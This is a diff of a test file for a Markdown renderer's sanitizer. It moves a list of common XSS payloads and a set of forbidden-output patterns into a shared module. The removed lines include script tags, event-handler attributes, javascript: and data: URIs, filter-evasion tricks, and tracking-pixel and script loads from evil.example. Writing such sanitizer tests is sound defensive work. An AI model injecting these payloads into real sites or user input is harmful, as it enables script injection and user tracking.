@@ -1,70 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { renderMarkdown } from './markdown';
+import { XSS_FORBIDDEN as FORBIDDEN, XSS_PAYLOADS as PAYLOADS } from './xss-payloads';
 
-/** Payloads from the usual XSS cheat sheets, as Markdown and as raw HTML inside Markdown. */
-const PAYLOADS = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="/ok.svg" onerror="alert(1)">',
-  '<svg onload=alert(1)><circle r=1 /></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<body onload=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">click</a>',
-  '<a href="JaVaScRiPt:alert(1)">click</a>',
-  '<a href="&#106;avascript:alert(1)">click</a>',
-  '<a href="java\tscript:alert(1)">click</a>',
-  '<a href=" javascript:alert(1)">click</a>',
-  '<a href="vbscript:msgbox(1)">click</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
-  '[click](javascript:alert(1))',
-  '[click](JAVASCRIPT:alert(1))',
-  '[click](data:text/html,<script>alert(1)</script>)',
-  '[click](vbscript:alert(1))',
-  '![x](javascript:alert(1))',
-  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  '<div style="background:url(javascript:alert(1))">x</div>',
-  '<p style="x:expression(alert(1))">x</p>',
-  '<form action="javascript:alert(1)"><button>go</button></form>',
-  '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<video><source onerror="alert(1)"></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<base href="javascript:alert(1)//">',
-  '<link rel=stylesheet href="javascript:alert(1)">',
-  '<style>@import "javascript:alert(1)";</style>',
-  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
-  '<a href="#" onclick="alert(1)">x</a>',
-  '<a href="/x" onmouseover=alert(1)>x</a>',
-  '<<script>alert(1);//<</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img """><script>alert(1)</script>">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<a href="https://evil.example" target="_blank">x</a>',
-  '<img src="https://evil.example/pixel.gif">',
-  '<img src="//evil.example/pixel.gif">',
-  '<img src="/\\evil.example/pixel.gif">',
-  '![x](https://evil.example/track.png)',
-  '<isindex type=image src=1 onerror=alert(1)>',
-  '<x onclick=alert(1)>x</x>',
-  '<a id="cookie" name="cookie">clobber</a>',
-];
 
-/** What must never be in the output. */
-const FORBIDDEN = [
-  /<script/i, /<iframe/i, /<object/i, /<embed/i, /<svg/i, /<math/i, /<style/i, /<form/i, /<input/i, /<meta/i, /<base/i,
-  /<link/i, /<video/i, /<audio/i, /<template/i, /<body/i, /<noscript/i,
-  /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /style\s*=/i, /srcdoc/i, /\sid\s*=/i, /\sname\s*=/i, /target\s*=/i,
-  /evil\.example\/pixel|track\.png/i,
-];
 
 describe('renderMarkdown', () => {
   it.each(PAYLOADS)('no XSS survives: %s', (payload) => {
